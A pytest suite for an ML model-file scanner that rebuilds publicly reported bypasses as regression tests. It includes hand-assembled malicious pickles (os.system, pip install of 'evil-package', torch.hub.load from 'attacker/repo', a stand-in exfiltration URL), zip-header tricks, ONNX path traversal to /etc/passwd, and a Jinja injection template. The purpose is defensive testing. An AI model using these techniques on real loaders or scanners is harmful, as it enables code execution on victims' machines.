"""One regression per publicly reported scanner bypass (picklescan, modelscan, fickling, 2023-2026).

Every payload is assembled here opcode by opcode (never produced by running ``__reduce__``), scanned with
``scan_file``, and must not come out ``safe``. The advisory or issue is linked above each case.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from pathlib import Path

import pytest

from mlsecops.supplychain.scanner import Verdict, scan_file


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _call(module: str, name: str, *args: str) -> bytes:
    """protocol 2: module.name(*args) then STOP."""
    body = b"".join(_u(a) for a in args)
    tup = {0: b")", 1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(args)] if len(args) <= 3 else b"(" + body + b"t"
    if len(args) > 3:
        return b"\x80\x02" + _g(module, name) + tup + b"R."
    return b"\x80\x02" + _g(module, name) + body + tup + b"R."


def _torch_zip(data_pkl: bytes, name: str = "archive/data.pkl") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, data_pkl)
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


SYSTEM = _call("os", "system", "id")

CASES: dict[str, bytes] = {
    # CVE-2025-1716, pip.main installs a package: https://github.com/mmaitre314/picklescan/security/advisories/GHSA-655q-fx9r-782v
    "pip-main": _call("pip", "main", "install", "evil-package"),
    # CVE-2025-1889, pickle inside a PyTorch zip under a non-standard name:
    # https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr
    "torch-zip-nonstandard-entry": _torch_zip(SYSTEM, "archive/weights.npy"),
    # CVE-2025-10155, a plain pickle renamed .bin/.pt: https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/
    "renamed-pickle": SYSTEM,
    # CVE-2025-10157, subclass in a submodule of a blocked module (asyncio.unix_events):
    # https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/
    "asyncio-submodule": b"\x80\x04"
    + _u("asyncio.unix_events")
    + _u("_UnixSubprocessTransport._start")
    + b"\x93"
    + b")R.",
    # Memo games with STACK_GLOBAL (ImaginaryCTF "Safe Pickle"): https://github.com/mmaitre314/picklescan/issues/22
    "memo-stack-global": b"\x80\x04"
    + _u("os")
    + b"\x94"
    + _u("system")
    + b"\x94"
    + b"00"
    + _u("collections")
    + _u("OrderedDict")
    + b"00"
    + b"h\x00h\x01\x93"
    + _u("id")
    + b"\x85R.",
    # Popped decoy strings before STACK_GLOBAL: https://github.com/promptfoo/modelaudit/pull/518
    "popped-decoy": b"\x80\x04"
    + _u("builtins")
    + _u("eval")
    + _u("decoy")
    + b"0"
    + b"\x93"
    + _u("1+1")
    + b"\x85R.",
    # numpy.__builtins__ reached through BUILD + numpy.size: https://github.com/protectai/modelscan/issues/330
    "numpy-builtins-build": b"\x80\x04"
    + _u("numpy")
    + _u("size")
    + b"\x93\x94\x94"
    + _u("numpy")
    + _u("__builtins__")
    + b"\x93\x94\x94"
    + b"h\x01}}"
    + _u("shape")
    + b"h\x03s\x86b"
    + b"h\x01h\x01"
    + _u("eval")
    + b"\x86R"
    + _u('__import__("os").system("id")')
    + b"\x85R.",
    # importlib.import_module + getattr + str.join chains: https://github.com/protectai/modelscan/issues/331
    "importlib-getattr-chain": b"\x80\x04"
    + _u("importlib")
    + _u("import_module")
    + b"\x93\x94"
    + _u("builtins")
    + b"\x85R\x94"
    + _u("builtins")
    + _u("getattr")
    + b"\x93\x94"
    + b"h\x02h\x01"
    + _u("eval")
    + b"\x86R"
    + _u("1")
    + b"\x85R.",
    # Nested pickle.loads of an inner payload: https://github.com/protectai/modelscan/issues/267
    "nested-pickle-loads": b"\x80\x03"
    + _g("pickle", "loads")
    + b"C"
    + bytes([len(SYSTEM)])
    + SYSTEM
    + b"\x85R.",
    # Alternative execution primitives: https://github.com/protectai/modelscan/issues/338
    "torch-collect-env-run": _call("torch.utils.collect_env", "run", "id"),
    "multiprocessing-spawnv-passfds": _call("multiprocessing.util", "spawnv_passfds", "/bin/sh"),
    "pandas-read-csv-exfil": _call("pandas.io.parsers.readers", "read_csv", "https://example.invalid/x"),
    # pty.spawn through OBJ: https://github.com/trailofbits/fickling/pull/108
    "pty-spawn-obj": b'(cpty\nspawn\nS"id"\no.',
    # marshal/types code objects: https://github.com/trailofbits/fickling/security/advisories/GHSA-565g-hwwr-4pp3
    "marshal-loads": _call("marshal", "loads", "c\x00\x00"),
    # _interpreters.run_string routed through BUILD/__setstate__: https://github.com/trailofbits/fickling/pull/302
    "interpreters-build": b"\x80\x02"
    + _g("collections", "OrderedDict")
    + b")R"
    + b"N}"
    + _u("__setstate__")
    + _g("_interpreters", "run_string")
    + b"s\x86b"
    + _u("print(1)")
    + b"b.",
    # _posixsubprocess, site, atexit: https://github.com/trailofbits/fickling/pull/272
    "posixsubprocess": _call("_posixsubprocess", "fork_exec", "id"),
    "atexit-register": _call("atexit", "register", "x"),
    # pkgutil.resolve_name universal bypass: https://github.com/mmaitre314/picklescan/issues/66 (GHSA-vvpj-8cmc-gx39)
    "pkgutil-resolve-name": _call("pkgutil", "resolve_name", "os:system"),
    # _operator.attrgetter: https://github.com/mmaitre314/picklescan/pull/54 (GHSA-955r-x9j8-7rhh)
    "operator-attrgetter": _call("_operator", "attrgetter", "system"),
    # functools.partial wrapper: https://github.com/trailofbits/fickling/pull/210
    "functools-partial": b"\x80\x02"
    + _g("functools", "partial")
    + _g("os", "system")
    + _u("id")
    + b"\x86R)R.",
    # ensurepip._run_pip: https://github.com/github/advisory-database/pull/8728 (GHSA-xp4f-hrf8-rxw7)
    "ensurepip-run-pip": _call("ensurepip", "_run_pip", "install"),
    # Call result discarded with POP so AST-based analysis drops it: https://github.com/promptfoo/modelaudit
    "reduce-then-pop": b"\x80\x02" + _g("subprocess", "check_output") + _u("id") + b"\x85R0}.",
    # Loader-in-loader: numpy.load(allow_pickle=True), torch.load, torch.hub.load:
    # https://github.com/trailofbits/fickling/pull/210
    "numpy-load": _call("numpy", "load", "x.npy"),
    "torch-hub-load": _call("torch.hub", "load", "attacker/repo", "model"),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_pickle_bypass_is_detected(tmp_path: Path, name: str) -> None:
    path = tmp_path / f"{name}.bin"
    path.write_bytes(CASES[name])
    r = scan_file(path)
    assert r.verdict in (Verdict.MALICIOUS, Verdict.SUSPICIOUS), (name, r.hits)
    assert r.verdict is Verdict.MALICIOUS, (name, [h.title for h in r.hits])


def _patched_zip(**kw: object) -> bytes:
    b = bytearray(_torch_zip(SYSTEM))
    cd = b.find(b"PK\x01\x02")
    if "flags" in kw:
        struct.pack_into("<H", b, 6, int(kw["flags"]))  # type: ignore[call-overload]
        struct.pack_into("<H", b, cd + 8, int(kw["flags"]))  # type: ignore[call-overload]
    if "crc" in kw:
        struct.pack_into("<I", b, 14, 0)
        struct.pack_into("<I", b, cd + 16, 0)
    if "local_name" in kw:
        b[30 : 30 + 16] = b"archive/data.pk_"
    return bytes(b)


ZIP_CASES = {
    # CVE-2025-1945, flag bits that make zipfile refuse an entry torch loads:
    # https://github.com/mmaitre314/picklescan/security/advisories/GHSA-w8jq-xcqf-f792
    "zip-flag-bits": _patched_zip(flags=0x1),
    # CVE-2025-1944, local and central names differ: https://github.com/mmaitre314/picklescan/security/advisories/GHSA-7q5r-7gvp-wc82
    "zip-name-mismatch": _patched_zip(local_name=True),
    # CVE-2025-10156, bad CRC makes zipfile raise: https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/
    "zip-bad-crc": _patched_zip(crc=True),
}


@pytest.mark.parametrize("name", sorted(ZIP_CASES))
def test_zip_parser_bypass_is_detected(tmp_path: Path, name: str) -> None:
    path = tmp_path / "model.pt"
    path.write_bytes(ZIP_CASES[name])
    r = scan_file(path)
    assert r.verdict is Verdict.MALICIOUS, (name, r.hits)
    assert any(h.callable == "os.system" for h in r.hits)


def test_keras_lambda_safe_mode_bypass(tmp_path: Path) -> None:
    # CVE-2024-3660, Lambda bytecode in a Keras model: https://nvd.nist.gov/vuln/detail/CVE-2024-3660
    # CVE-2025-1550, arbitrary module import from config.json: https://nvd.nist.gov/vuln/detail/CVE-2025-1550
    for layer in (
        {"class_name": "Lambda", "config": {"name": "l", "function": ["4wAAAA==", None, None]}},
        {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}},
    ):
        cfg = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
        path = tmp_path / "m.keras"
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("config.json", json.dumps(cfg))
            z.writestr("metadata.json", "{}")
        assert scan_file(path).verdict is Verdict.MALICIOUS, layer


def _onnx_with_external(location: str) -> bytes:
    def pb(num: int, raw: bytes | str | int) -> bytes:
        if isinstance(raw, int):
            return bytes([num << 3, raw])
        data = raw.encode() if isinstance(raw, str) else raw
        return bytes([num << 3 | 2, len(data)]) + data

    tensor = pb(1, 4) + pb(2, 1) + pb(8, "w") + pb(13, pb(1, "location") + pb(2, location)) + pb(14, 1)
    return pb(1, 8) + pb(7, pb(5, tensor) + pb(2, "g"))


def test_onnx_external_data_traversal(tmp_path: Path) -> None:
    # CVE-2024-27318 / CVE-2024-5187, external_data path traversal: https://nvd.nist.gov/vuln/detail/CVE-2024-27318
    path = tmp_path / "m.onnx"
    path.write_bytes(_onnx_with_external("../../../etc/passwd"))
    assert scan_file(path).verdict is Verdict.MALICIOUS


def test_onnx_external_data_through_a_symlink_in_the_model_directory(tmp_path: Path) -> None:
    # The same read of an arbitrary file with a harmless-looking relative name: weights.bin -> /etc/passwd.
    model_dir = tmp_path / "model"
    model_dir.mkdir()
    (model_dir / "weights.bin").symlink_to("/etc/passwd")
    (model_dir / "m.onnx").write_bytes(_onnx_with_external("weights.bin"))
    result = scan_file(model_dir / "m.onnx")
    assert result.verdict is Verdict.MALICIOUS and "symbolic link" in result.hits[0].detail
    # a real file (or a link that stays inside the directory) is fine
    (model_dir / "real.bin").write_bytes(b"\0" * 16)
    (model_dir / "inside.bin").symlink_to("real.bin")
    for name in ("real.bin", "inside.bin"):
        (model_dir / "ok.onnx").write_bytes(_onnx_with_external(name))
        assert scan_file(model_dir / "ok.onnx").verdict is Verdict.SAFE, name


def test_gguf_chat_template_injection(tmp_path: Path) -> None:
    # CVE-2024-34359, Jinja SSTI in llama-cpp-python chat templates: https://nvd.nist.gov/vuln/detail/CVE-2024-34359
    tpl = "{% for x in ().__class__.__base__.__subclasses__() %}{{ x()._module.__builtins__['__import__']('os') }}{% endfor %}"
    key = b"tokenizer.chat_template"
    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key + struct.pack("<I", 8)
    data += struct.pack("<Q", len(tpl)) + tpl.encode()
    path = tmp_path / "m.gguf"
    path.write_bytes(data)
    assert scan_file(path).verdict is Verdict.MALICIOUS


def test_second_pickle_after_stop(tmp_path: Path) -> None:
    # Scanners that stop at the first STOP miss what a multi-pickle loader (torch's legacy format reads
    # five pickles in a row) unpickles next; not a single advisory, a class we test for.
    path = tmp_path / "m.pt"
    path.write_bytes(pickle.dumps({"ok": 1}, 2) + SYSTEM)
    assert scan_file(path).verdict is Verdict.MALICIOUS


def test_payload_then_exception(tmp_path: Path) -> None:
    # Exception-oriented programming: the payload runs, then a broken opcode makes the loader raise, and
    # scanners that give up on the parse error report nothing. https://arxiv.org/abs/2508.19774
    path = tmp_path / "m.pkl"
    path.write_bytes(SYSTEM[:-1] + b"\xff" + b"garbage")
    assert scan_file(path).verdict is Verdict.MALICIOUS
